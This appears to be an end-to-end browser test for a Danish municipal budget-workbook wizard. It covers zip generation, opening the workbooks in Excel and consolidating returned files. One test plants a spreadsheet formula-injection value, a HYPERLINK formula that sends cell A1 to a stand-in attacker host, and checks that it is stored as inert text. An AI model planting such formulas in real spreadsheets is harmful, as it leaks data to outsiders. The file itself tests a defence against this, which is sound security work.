/**
 * The department workbooks wizard (Afdelingsskemaer) in real Chromium against the playground: the
 * workbooks generated from the playground's department table arrive as one zip download (or, with
 * "Åbn i Excel", one by one at the playground's stand-in for Excel.createWorkbook), and returned files
 * chosen with the file picker are consolidated into a catalogue sheet.
 *
 * Quotas at 1,5 % and one decimal, worked out by hand by largest remainder: the bases
 * 4.162,3 1.167,1 2.145,0 1.035,2 4.223,2 2.335,8 give 62,43 17,51 32,18 15,53 63,35 35,04; the floors
 * add up to 225,8 of the total 226,0, and the two largest remainders (MSO ,75, MBU ,48) get a tenth more.
 */
import JSZip from "jszip";
import type { Page } from "playwright-core";
import { fillDepartmentWorkbook } from "../../src/workbooks";
import { openPlayground, pane, readCells, screenshot, settledValue, type BrowserSession } from "../support/playground";

const QUOTAS = ["62,4", "17,5", "32,2", "15,5", "63,4", "35,0"];

async function fillSettings(page: Page): Promise<void> {
  await pane(page).getByRole("tab", { name: "Afdelingsskemaer", exact: true }).click();
  await page.getByTestId("wb-themes").fill("Besparelser!A1:E3");
  await page.getByTestId("wb-municipality").fill("Legeplads Kommune");
  await page.getByTestId("wb-budgetYear").fill("2024");
  await page.getByTestId("wb-rate").fill("1,5 %");
  await page.getByTestId("wb-deadline").fill("2023-04-14");
  await page.getByTestId("wb-contact").fill("Økonomi, tlf. 1234 5678");
}

describe("department workbooks wizard in the playground", () => {
  let session: BrowserSession;
  let page: Page;
  let zip: JSZip;

  beforeAll(async () => {
    session = await openPlayground();
    page = session.page;
  });
  afterAll(async () => {
    await session?.close();
  });

  test("generates a workbook per department of the table and hands them over as one zip", async () => {
    await fillSettings(page);
    await expect(settledValue(page.getByTestId("wb-departments"), "Afdelinger")).resolves.toBe("Afdelinger");
    const preview = page.getByTestId("wb-quota-preview");
    await preview.getByRole("row", { name: /^BA/ }).waitFor();
    const rows = await Promise.all(
      ["MSB", "MTM", "MSO", "MKB", "MBU", "BA"].map((code) =>
        preview.getByRole("row", { name: new RegExp(`^${code}`) }).textContent(),
      ),
    );
    rows.forEach((text, i) => expect(text).toContain(QUOTAS[i]));
    await expect(preview.getByRole("row", { name: /^I alt/ }).textContent()).resolves.toContain("226,0");
    await screenshot(page, "workbooks-generate-preview");

    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("wb-generate").click()]);
    expect(download.suggestedFilename()).toBe("2024-afdelingsskemaer.zip");
    const stream = await download.createReadStream();
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(chunk as Buffer);
    zip = await JSZip.loadAsync(Buffer.concat(chunks));
    expect(Object.keys(zip.files).sort()).toEqual(
      ["2024-BA.xlsx", "2024-MBU.xlsx", "2024-MKB.xlsx", "2024-MSB.xlsx", "2024-MSO.xlsx", "2024-MTM.xlsx"].sort(),
    );
    await expect(page.getByTestId("wb-generate-notice").textContent()).resolves.toContain("6 skemaer");
    expect(session.errors).toEqual([]);
  });

  test("consolidates the returned files into a catalogue sheet, after a preview", async () => {
    const blank = await zip.file("2024-MSB.xlsx")?.async("uint8array");
    if (!blank) throw new Error("no MSB workbook in the zip");
    const filled = await fillDepartmentWorkbook(blank, {
      proposals: [
        { title: "Samling af jobcentre", kind: "efficiency", amounts: [40, 50, 60, 62.4] },
        {
          title: "Ny takst",
          kind: "revenue",
          amounts: [22.4, 12.4, 2.4, 0],
          // Text from a returned file that Excel would run as a formula: it must arrive as text.
          description: '=HYPERLINK("http://angriber.example/?"&A1,"Klik")',
          staff: "@SUM(1,1)",
        },
      ],
    });
    await page.getByTestId("wb-files").setInputFiles([
      { name: "2024-MSB.xlsx", mimeType: "application/octet-stream", buffer: Buffer.from(filled) },
      { name: "2024-MTM.xlsx", mimeType: "application/octet-stream", buffer: Buffer.from("ikke et regneark") },
    ]);
    const status = page.getByTestId("wb-status-preview");
    await status.getByRole("row", { name: /^BA/ }).waitFor();
    await expect(status.getByRole("row", { name: /^MSB/ }).textContent()).resolves.toContain("Returneret");
    await expect(status.getByRole("row", { name: /^MTM/ }).textContent()).resolves.toContain("Afvist");
    await expect(status.getByRole("row", { name: /^MSO/ }).textContent()).resolves.toContain("Mangler");
    await expect(page.getByTestId("wb-findings").textContent()).resolves.toContain(
      // The pane is in Danish, and so are the findings from src/workbooks.
      "2024-MTM.xlsx: Filen er afvist: den er ikke et .xlsx-regneark",
    );
    await screenshot(page, "workbooks-consolidate-preview");

    await page.getByTestId("wb-write").click();
    await page.getByTestId("write-notice").waitFor();
    await expect(page.getByTestId("write-notice").textContent()).resolves.toContain("Forslagskatalog!A1:P20");
    const cells = await readCells(page, "Forslagskatalog!A1:K16");
    expect(cells.values[0]?.[0]).toBe("Status");
    expect(cells.values.slice(2, 4).map((row) => [row[0], row[2]])).toEqual([
      ["MSB", "Returneret"],
      ["MTM", "Afvist"],
    ]);
    const start = cells.values.findIndex((row) => row[0] === "Katalog");
    expect(cells.values.slice(start + 2, start + 5).map((row) => [row[3], ...row.slice(6, 11)])).toEqual([
      ["Samling af jobcentre", 40, 50, 60, 62.4, 212.4],
      ["Ny takst", 22.4, 12.4, 2.4, 0, 37.2],
      ["", 62.4, 62.4, 62.4, 62.4, 249.6],
    ]);
    // Nothing from the returned file became a formula: the texts went in with Excel's quote
    // prefix, which Excel, and the playground, keep out of the value shown.
    const written = await readCells(page, "Forslagskatalog!A1:P20");
    expect(written.inputs.flat().filter((input) => typeof input === "string" && input.startsWith("="))).toEqual([]);
    const takst = written.inputs.find((row) => row[3] === "Ny takst");
    expect([takst?.[4], takst?.[13]]).toEqual(['\'=HYPERLINK("http://angriber.example/?"&A1,"Klik")', "'@SUM(1,1)"]);
    const shown = written.values[written.inputs.indexOf(takst ?? [])];
    expect([shown?.[4], shown?.[13]]).toEqual(['=HYPERLINK("http://angriber.example/?"&A1,"Klik")', "@SUM(1,1)"]);
    expect(session.errors).toEqual([]);
  });

  test("Åbn i Excel opens each department's workbook in turn, the same files as in the zip", async () => {
    await page.getByTestId("wb-open-in-excel").click();
    await expect(page.getByTestId("wb-generate-notice").textContent()).resolves.toContain(
      "Åbnet 6 skemaer i Excel, hvert i sit eget vindue.",
    );
    const opened = await page.evaluate(() =>
      (window.raaderum?.opened.items ?? []).map((item) => ({ name: item.name, bytes: Array.from(item.bytes) })),
    );
    expect(opened.map((o) => o.name)).toEqual([
      "2024-MSB.xlsx",
      "2024-MTM.xlsx",
      "2024-MSO.xlsx",
      "2024-MKB.xlsx",
      "2024-MBU.xlsx",
      "2024-BA.xlsx",
    ]);
    for (const o of opened) {
      // Each is a whole .xlsx with the same parts as the zip's file of that name.
      const parts = Object.keys((await JSZip.loadAsync(Uint8Array.from(o.bytes))).files).sort();
      const zipped = await zip.file(o.name)?.async("uint8array");
      if (!zipped) throw new Error(`no ${o.name} in the zip`);
      expect(parts).toEqual(Object.keys((await JSZip.loadAsync(zipped)).files).sort());
      expect(parts).toContain("xl/workbook.xml");
    }
    await expect(page.getByTestId("playground-opened").textContent()).resolves.toContain("2024-BA.xlsx");
    await screenshot(page, "workbooks-opened-in-excel");
    expect(session.errors).toEqual([]);
  });
});
